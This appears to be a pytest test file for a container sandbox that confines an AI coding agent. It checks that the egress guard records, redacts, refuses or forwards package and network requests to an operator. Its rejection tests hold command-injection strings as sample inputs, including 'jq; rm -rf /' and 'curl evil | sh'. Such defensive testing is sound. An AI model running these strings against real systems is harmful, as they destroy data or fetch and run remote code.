"""Capability requests (issue 13): the guard's desk judges, records and answers them; the host blocks the
bottle that asked for a package, and a grant rebuilds it and resumes its session; `--save` keeps the
manifest's comments."""

from __future__ import annotations

import asyncio
import json
import os
import urllib.parse
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

from claude_bottle.backend import _BACKENDS
from claude_bottle.bottle.state import bottle_home, list_state_dirs
from claude_bottle.cli import main
from claude_bottle.guard.audit import AuditLog
from claude_bottle.guard.capability import MAX_REASON
from claude_bottle.guard.config import Secrets
from claude_bottle.guard.dlp import Scanner
from claude_bottle.guard.policy import PolicyFile
from claude_bottle.guard.proxy import Guard
from claude_bottle.manifest.trust import trust_file

from .fakes import FakeBackend
from .guardkit import send

HONEY = "AKIAHONEYTOKEN000042"


@asynccontextmanager
async def desk(tmp: Path, limit: int | None = None) -> AsyncIterator[tuple[int, Path, Path, Path]]:
    policy = tmp / "policy.json"
    policy.write_text(json.dumps({"bottle": "t-abcde", "allow": []}))
    log = AuditLog(tmp / "egress.jsonl", bottle="t-abcde")
    guard = Guard(
        PolicyFile(policy), log, Secrets({}, (HONEY,), Scanner(honeytokens=[HONEY])), requests=tmp / "requests.jsonl"
    )
    if limit is not None:
        guard.desk.limit = limit
    server = await guard.serve("127.0.0.1", 0)
    try:
        yield server.sockets[0].getsockname()[1], policy, tmp / "requests.jsonl", tmp / "egress.jsonl"
    finally:
        server.close()
        await server.wait_closed()
        log.close()


def ask(port: int, **fields: str) -> bytes:
    body = urllib.parse.urlencode(fields).encode()
    return (
        b"POST /__bottle/capability HTTP/1.1\r\nHost: egress\r\nContent-Type: application/x-www-form-urlencoded\r\n"
        b"Content-Length: %d\r\n\r\n" % len(body) + body
    )


def lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(x) for x in path.read_text().splitlines()] if path.exists() else []


def test_a_package_request_is_recorded_audited_and_answered_at_once(tmp_path: Path) -> None:
    async def go() -> None:
        async with desk(tmp_path) as (port, _policy, requests, audit):
            resp = await send(port, ask(port, kind="apt", name="jq", reason=f"need jq {HONEY}"))
            assert resp.startswith(b"HTTP/1.1 202"), resp
            assert b"stops this bottle now" in resp and b"apt:jq" in resp
            (req,) = lines(requests)
            assert (req["kind"], req["name"]) == ("apt", "jq") and req["id"].startswith("r-")
            assert HONEY not in req["reason"] and "need jq" in req["reason"]  # redacted like every logged string
            (line,) = [ln for ln in lines(audit) if ln.get("kind") == "capability"]
            assert line["decision"] == "request" and line["capability"] == "apt:jq" and line["request"] == req["id"]
            assert HONEY not in audit.read_text()

    asyncio.run(go())


@pytest.mark.parametrize(
    ("fields", "why"),
    [
        ({"kind": "brew", "name": "jq"}, "unknown kind"),
        ({"kind": "apt", "name": "jq; rm -rf /"}, "is not an apt package name"),
        ({"kind": "apt", "name": "jq vim"}, "is not an apt package name"),
        ({"kind": "pip", "name": "$(curl evil)"}, "is not a pip name"),
        ({"kind": "npm", "name": "`id`"}, "is not a npm name"),
        ({"kind": "egress", "name": "evil.test:99999"}, "the port must be 1-65535"),
        ({"kind": "egress", "name": "http://evil.test/"}, "is not a host[:port]"),
        ({"kind": "apt", "name": "-oAPT::Update=x"}, "is not an apt package name"),
        ({"kind": "apt", "name": "jq", "reason": "x" * (MAX_REASON + 1)}, "over 300 characters"),
        ({"kind": "apt", "name": "jq", "extra": "1"}, "fields: kind, name, reason, wait"),
    ],
)
def test_bad_requests_are_refused_where_they_arrive(tmp_path: Path, fields: dict[str, str], why: str) -> None:
    async def go() -> None:
        async with desk(tmp_path) as (port, _policy, requests, audit):
            resp = await send(port, ask(port, **fields))
            assert resp.startswith(b"HTTP/1.1 400"), resp
            assert why.encode() in resp, resp
            assert requests.read_text() == "" if requests.exists() else True  # nothing recorded as a request
            refusal = [ln for ln in lines(audit) if ln.get("decision") == "deny"]
            assert refusal and "capability request refused" in refusal[-1]["reason"]

    asyncio.run(go())


def test_a_flood_past_the_limit_is_refused(tmp_path: Path) -> None:
    async def go() -> None:
        async with desk(tmp_path, limit=3) as (port, _policy, requests, _audit):
            codes = [(await send(port, ask(port, kind="apt", name=f"pkg{i}")))[:12] for i in range(5)]
            assert codes == [b"HTTP/1.1 202"] * 3 + [b"HTTP/1.1 400"] * 2
            assert len(lines(requests)) == 3

    asyncio.run(go())


@pytest.mark.parametrize(("answer", "status"), [("grant", b"200"), ("deny", b"403"), (None, b"408")])
def test_an_egress_request_waits_for_the_operator(tmp_path: Path, answer: str | None, status: bytes) -> None:
    async def go() -> None:
        async with desk(tmp_path) as (port, policy, requests, audit):
            waiting = asyncio.create_task(send(port, ask(port, kind="egress", name="api.new.test:443", wait="3")))
            for _ in range(200):
                if lines(requests):
                    break
                await asyncio.sleep(0.02)
            (req,) = lines(requests)
            assert not waiting.done()  # held: nobody answered yet
            if answer:
                doc = json.loads(policy.read_text())
                doc["decisions"] = {req["id"]: [answer, "not for this task" if answer == "deny" else ""]}
                policy.write_text(json.dumps(doc))
            resp = await asyncio.wait_for(waiting, 10)
            assert resp.startswith(b"HTTP/1.1 " + status), resp
            if answer == "deny":
                assert b"not for this task" in resp
            final = [ln for ln in lines(audit) if ln.get("kind") == "capability"][-1]
            assert final["answer"] == (answer or "timeout")

    asyncio.run(go())


# -- the host side, on the fake backend ----------------------------------------------------------------
MANIFEST = """# the operator's comments stay
[bottles.default]
backend = "fake"
packages = ["git"]   # what we always need

[bottles.default.egress]
allow = ["api.example.com"]

[agents.claude]
"""


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    monkeypatch.setitem(_BACKENDS, "fake", "tests.unit.fakes:FakeBackend")
    FakeBackend.reset()
    d = tmp_path / "proj"
    d.mkdir()
    (d / "claude-bottle.toml").write_text(MANIFEST)
    trust_file(d / "claude-bottle.toml", home=bottle_home())
    monkeypatch.chdir(d)
    yield d
    FakeBackend.reset()


def asks_for(kind: str, name: str) -> Any:
    """claude, in the bottle, asks the guard for a package: the guard records it; claude is ended (143)."""

    def on_exec(argv: list[str]) -> int | None:
        if argv[:1] == ["claude"] and not any("continue" in a.lower() for a in argv):
            (sd,) = list_state_dirs()
            with (sd.path / "requests.jsonl").open("a") as f:
                f.write(json.dumps({"time": "2026-11-28T10:00:00+00:00", "id": "r-0001", "kind": kind,
                                    "name": name, "reason": "to parse JSON"}) + "\n")  # fmt: skip
            return 143
        return None

    return on_exec


def test_a_package_request_blocks_and_a_grant_rebuilds_and_resumes_the_session(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    FakeBackend.on_exec = asks_for("apt", "jq")
    assert main(["start", "claude", "--prompt", "parse this"]) == 143
    (sd,) = list_state_dirs()
    record = sd.read()
    assert (record.status, sd.preserved(), record.wants) == ("blocked", "capability-block", ["apt:jq"])
    assert FakeBackend.calls[-1] == "stop"
    capsys.readouterr()
    assert main(["ls", "--json"]) == 0
    assert json.loads(capsys.readouterr().out)[0]["status"] == "blocked (wants apt:jq)"
    assert main(["requests", "--json"]) == 0
    (req,) = json.loads(capsys.readouterr().out)
    assert (req["slug"], req["id"], req["kind"], req["name"]) == (sd.slug, "r-0001", "apt", "jq")
    FakeBackend.calls.clear()
    FakeBackend.execs.clear()
    assert main(["grant", sd.slug, "--request", "r-0001"]) == 0
    record = sd.read()
    assert record.granted_packages == {"apt": ["jq"]} and record.rebuilt and record.generation == 2
    assert sd.preserved() == "rebuilt"  # cleanup keeps its own recipe until `keep --release`
    assert "images" in FakeBackend.calls  # rebuilt before it resumed
    (run,) = [e.argv for e in FakeBackend.execs if e.argv[:1] == ["claude"]]
    assert run[run.index("--resume") + 1] == record.session_id
    assert run[-2] == "-p" and "granted apt:jq" in run[-1] and "installed" in run[-1]
    capsys.readouterr()
    assert main(["requests", "--json"]) == 0
    assert json.loads(capsys.readouterr().out) == []


def test_a_refusal_resumes_the_session_told_why(project: Path) -> None:
    FakeBackend.on_exec = asks_for("pip", "requests")
    assert main(["start", "claude", "--prompt", "go"]) == 143
    (sd,) = list_state_dirs()
    FakeBackend.execs.clear()
    assert main(["deny", sd.slug, "--request", "r-0001", "--reason", "use the standard library"]) == 0
    (run,) = [e.argv for e in FakeBackend.execs if e.argv[:1] == ["claude"]]
    assert "refused pip:requests (use the standard library)" in run[-1]
    assert sd.read().granted_packages == {} and not sd.read().rebuilt


def test_a_granted_egress_request_is_live_and_answered_through_the_policy(project: Path) -> None:
    assert main(["start", "claude", "--detach"]) == 0
    (sd,) = list_state_dirs()
    (sd.path / "requests.jsonl").write_text(
        json.dumps(
            {
                "time": "2026-11-28T10:00:00+00:00",
                "id": "r-00e1",
                "kind": "egress",
                "name": "api.new.test:8443",
                "reason": "docs",
            }
        )
        + "\n"
    )
    assert main(["grant", sd.slug, "--all"]) == 0
    policy = json.loads((sd.path / "guard" / "policy.json").read_text())
    assert policy["decisions"] == {"r-00e1": ["grant", ""]}
    assert {"host": "api.new.test", "ports": [8443]}.items() <= policy["allow"][-1].items()
    assert sd.read().status == "running"  # nothing to rebuild: it goes on


def test_lines_the_guard_did_not_write_are_never_acted_on(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["start", "claude", "--detach"]) == 0
    (sd,) = list_state_dirs()
    (sd.path / "requests.jsonl").write_text(
        '{"id": "r-1", "kind": "apt", "name": "jq; curl evil | sh"}\nnot json\n'
        '{"id": "x", "kind": "apt", "name": "jq"}\n'
    )
    capsys.readouterr()
    assert main(["requests", "--json"]) == 0
    assert json.loads(capsys.readouterr().out) == []


def test_grant_save_keeps_the_manifests_comments_and_keys(project: Path) -> None:
    FakeBackend.on_exec = asks_for("apt", "jq")
    assert main(["start", "claude", "--prompt", "go"]) == 143
    (sd,) = list_state_dirs()
    assert main(["grant", sd.slug, "--request", "r-0001", "--save"]) == 0
    text = (project / "claude-bottle.toml").read_text()
    assert text == MANIFEST.replace('packages = ["git"]', 'packages = ["git", "jq"]')
    assert main(["start", "claude", "--detach"]) == 0  # still trusted: the operator made this change


def test_grant_egress_save_adds_the_host_to_the_trusted_manifest(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`grant --egress HOST --save` saved nothing before (the flag was read only for requests)."""
    assert main(["start", "claude", "--detach"]) == 0
    (sd,) = list_state_dirs()
    assert main(["grant", sd.slug, "--egress", "docs.example.com", "--save"]) == 0
    text = (project / "claude-bottle.toml").read_text()
    assert text == MANIFEST.replace('allow = ["api.example.com"]', 'allow = ["api.example.com", "docs.example.com"]')
    assert main(["start", "claude", "--detach"]) == 0  # still trusted
    capsys.readouterr()
    assert main(["grant", sd.slug, "--egress", "x.example.com", "--private", "--save"]) == 1
    assert "edit egress.allow by hand" in capsys.readouterr().err


def test_grant_save_into_a_manifest_changed_since_trust_keeps_the_grant_and_says_so(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    FakeBackend.on_exec = asks_for("apt", "jq")
    assert main(["start", "claude", "--prompt", "go"]) == 143
    (sd,) = list_state_dirs()
    manifest = (project / "claude-bottle.toml").resolve()
    edited = MANIFEST.replace('allow = ["api.example.com"]', 'allow = ["api.example.com", "evil.test"]')
    manifest.write_text(edited)
    capsys.readouterr()
    assert main(["grant", sd.slug, "--request", "r-0001", "--save"]) == 1
    assert capsys.readouterr().err.strip() == (
        f"error: {manifest} is not trusted (changed since it was trusted): granted apt:jq, but not saved; "
        f"review the change with `claude-bottle trust {manifest}`, then add apt:jq to it"
    )
    assert manifest.read_text() == edited
    assert sd.read().granted_packages == {"apt": ["jq"]}  # the grant stands
    assert json.loads((sd.path / "guard" / "policy.json").read_text())["decisions"] == {"r-0001": ["grant", ""]}
    assert main(["start", "claude", "--detach"]) == 1  # and the edit is still not trusted
    assert "changed since it was trusted" in capsys.readouterr().err


def test_the_image_has_a_layer_for_granted_packages() -> None:
    from claude_bottle.identity import RuntimeIds
    from claude_bottle.images.specs import agent_image_spec
    from claude_bottle.manifest import BottleSpec

    ids = RuntimeIds(1000, 1000, 1000, 1000)
    plain = agent_image_spec(BottleSpec(), ids)
    granted = agent_image_spec(BottleSpec(), ids, granted={"apt": ["jq"], "pip": ["requests"]})
    assert granted.files["packages/granted/apt.txt"] == b"jq\npython3-pip\n"
    assert granted.files["packages/granted/pip.txt"] == b"requests\n"
    assert plain.dockerfile == granted.dockerfile and plain.tag != granted.tag  # same recipe, other data
    assert "COPY packages/granted /tmp/bottle-granted" in plain.dockerfile
    assert "bottle-capability" in plain.files and os.X_OK


# -- ask mode -------------------------------------------------------------------------------------------
@pytest.mark.parametrize("answer", ["grant", "deny", None])
def test_ask_mode_holds_a_refused_connection_until_the_operator_answers(tmp_path: Path, answer: str | None) -> None:
    async def upstream(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 7\r\n\r\nreached")
        await writer.drain()
        writer.close()

    async def go() -> None:
        up = await asyncio.start_server(upstream, "127.0.0.1", 0)
        up_port = up.sockets[0].getsockname()[1]
        async with desk(tmp_path) as (port, policy, requests, audit):
            doc = {"bottle": "t-abcde", "allow": [], "ask_timeout": 1.5}
            policy.write_text(json.dumps(doc))
            held = asyncio.create_task(send(port, f"GET http://127.0.0.1:{up_port}/ HTTP/1.1\r\n\r\n".encode()))
            again = asyncio.create_task(send(port, f"GET http://127.0.0.1:{up_port}/x HTTP/1.1\r\n\r\n".encode()))
            for _ in range(200):
                if lines(requests):
                    break
                await asyncio.sleep(0.02)
            await asyncio.sleep(0.1)
            (req,) = lines(requests)  # one request per destination, however many connections wait on it
            assert req["name"] == f"127.0.0.1:{up_port}" and req["reason"].startswith("ask mode:")
            assert not held.done()
            if answer:
                doc["decisions"] = {req["id"]: [answer, "no"]}
                if answer == "grant":
                    doc["allow"] = [{"host": "127.0.0.1", "ports": [up_port], "private": True}]
                policy.write_text(json.dumps(doc))
            first, second = await asyncio.wait_for(asyncio.gather(held, again), 10)
            for resp in (first, second):
                if answer == "grant":
                    assert resp.startswith(b"HTTP/1.1 200") and resp.endswith(b"reached"), resp
                elif answer == "deny":
                    assert resp.startswith(b"HTTP/1.1 403") and b"denied by the operator: no" in resp, resp
                else:
                    assert resp.startswith(b"HTTP/1.1 403") and b"ask mode: no answer within 2s" in resp, resp
            asked = [ln for ln in lines(audit) if ln.get("kind") == "capability"]
            assert asked and asked[0]["capability"] == f"egress:127.0.0.1:{up_port}"
        up.close()
        await up.wait_closed()

    asyncio.run(go())


def test_without_ask_mode_a_refusal_is_immediate_and_asks_nobody(tmp_path: Path) -> None:
    async def go() -> None:
        async with desk(tmp_path) as (port, _policy, requests, _audit):
            resp = await send(port, b"GET http://127.0.0.1:9/ HTTP/1.1\r\n\r\n")
            assert resp.startswith(b"HTTP/1.1 403") and lines(requests) == []

    asyncio.run(go())


# -- the endpoint's answers, exactly ------------------------------------------------------------------
def head_of(resp: bytes) -> tuple[str, dict[str, str], bytes]:
    head, _, body = resp.partition(b"\r\n\r\n")
    status, *fields = head.decode("latin-1").split("\r\n")
    return status, {k.lower(): v.strip() for k, _, v in (f.partition(":") for f in fields)}, body


def raw_post(body: bytes, *, length: int | None = None, chunked: bool = False) -> bytes:
    framing = (
        "Transfer-Encoding: chunked\r\n"
        if chunked
        else f"Content-Length: {len(body) if length is None else length}\r\n"
    )
    data = f"{len(body):x}\r\n".encode() + body + b"\r\n0\r\n\r\n" if chunked else body
    return f"POST /__bottle/capability HTTP/1.1\r\nHost: egress\r\n{framing}\r\n".encode() + data


FORM_ONLY = "capability request: a form body with Content-Length, at most 4 KiB"
UNKNOWN = f"capability request refused: unknown kind {'k' * 20!r}: use one of apt, pip, npm, egress"


@pytest.mark.parametrize(
    ("raw", "status", "reason"),
    [
        (raw_post(b"kind=apt&name=jq", chunked=True), "400", FORM_ONLY),
        (raw_post(b"k" * 4097), "400", FORM_ONLY),
        (raw_post(b"kind=" + b"k" * 4091), "400", UNKNOWN),  # 4 KiB exactly: read and judged
    ],
)
def test_a_malformed_request_gets_its_status_and_reason(tmp_path: Path, raw: bytes, status: str, reason: str) -> None:
    async def go() -> None:
        async with desk(tmp_path) as (port, _policy, _requests, audit):
            got_status, fields, body = head_of(await send(port, raw))
            assert got_status.split(" ")[1] == status and fields["x-claude-bottle-reason"] == reason
            assert body == f"claude-bottle egress guard: {reason}\n".encode()
            (line,) = [ln for ln in lines(audit) if ln.get("decision") == "deny"]
            assert (line["kind"], line["path"], line["reason"]) == ("capability", "/__bottle/capability", reason)

    asyncio.run(go())


def test_a_body_cut_short_is_408(tmp_path: Path) -> None:
    async def go() -> None:
        async with desk(tmp_path) as (port, _policy, _requests, _audit):
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            writer.write(raw_post(b"kind=apt", length=100))
            writer.write_eof()  # the client stops sending: the body can never be whole
            resp = await asyncio.wait_for(reader.read(), 10)
            writer.close()
            status, fields, _ = head_of(resp)
            assert status.startswith("HTTP/1.1 408") and fields["x-claude-bottle-reason"] == (
                "capability request body too slow or cut"
            )

    asyncio.run(go())


def test_a_request_the_log_cannot_record_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(AuditLog, "write", lambda self, **fields: False)

    async def go() -> None:
        async with desk(tmp_path) as (port, _policy, _requests, _audit):
            status, fields, _ = head_of(await send(port, ask(port, kind="apt", name="jq")))
            assert (
                status.startswith("HTTP/1.1 503")
                and fields["x-claude-bottle-reason"] == "audit log cannot record: refusing"
            )

    asyncio.run(go())


@pytest.mark.parametrize(
    ("answer", "why", "status", "text"),
    [
        ("grant", "", "200", "granted egress:api.new.test:443: reachable now\n"),
        ("deny", "not for this task", "403", "denied egress:api.new.test:443: not for this task\n"),
        ("deny", "", "403", "denied egress:api.new.test:443\n"),
        (None, "", "408", "no answer to egress:api.new.test:443 within 1s: the operator may still grant it\n"),
    ],
)
def test_each_answer_is_said_exactly(tmp_path: Path, answer: str | None, why: str, status: str, text: str) -> None:
    async def go() -> None:
        async with desk(tmp_path) as (port, policy, requests, audit):
            waiting = asyncio.create_task(send(port, ask(port, kind="egress", name="api.new.test:443", wait="1",
                                                         reason="docs")))  # fmt: skip
            for _ in range(200):
                if lines(requests):
                    break
                await asyncio.sleep(0.02)
            (req,) = lines(requests)
            if answer:
                doc = json.loads(policy.read_text())
                doc["decisions"] = {req["id"]: [answer, why]}
                policy.write_text(json.dumps(doc))
            got, fields, body = head_of(await asyncio.wait_for(waiting, 10))
            assert got.split(" ")[1] == status and fields["content-type"] == "text/plain" and body == text.encode()
            asked, final = [ln for ln in lines(audit) if ln.get("kind") == "capability"]
            assert (asked["decision"], asked["path"], asked["reason"]) == ("request", "/__bottle/capability", "docs")
            assert final["decision"] == (answer or "timeout") and final["answer"] == (answer or "timeout")
            assert final.get("answer_reason") == (why or None)

    asyncio.run(go())


def test_a_package_request_is_answered_202_in_plain_text(tmp_path: Path) -> None:
    async def go() -> None:
        async with desk(tmp_path) as (port, _policy, requests, _audit):
            status, fields, body = head_of(await send(port, ask(port, kind="apt", name="jq")))
            (req,) = lines(requests)
            assert status.startswith("HTTP/1.1 202") and fields["content-type"] == "text/plain"
            assert (
                body
                == (
                    f"requested apt:jq ({req['id']}). The operator is asked; a package request stops this bottle now, "
                    "and this session resumes once it is granted (installed) or refused.\n"
                ).encode()
            )

    asyncio.run(go())
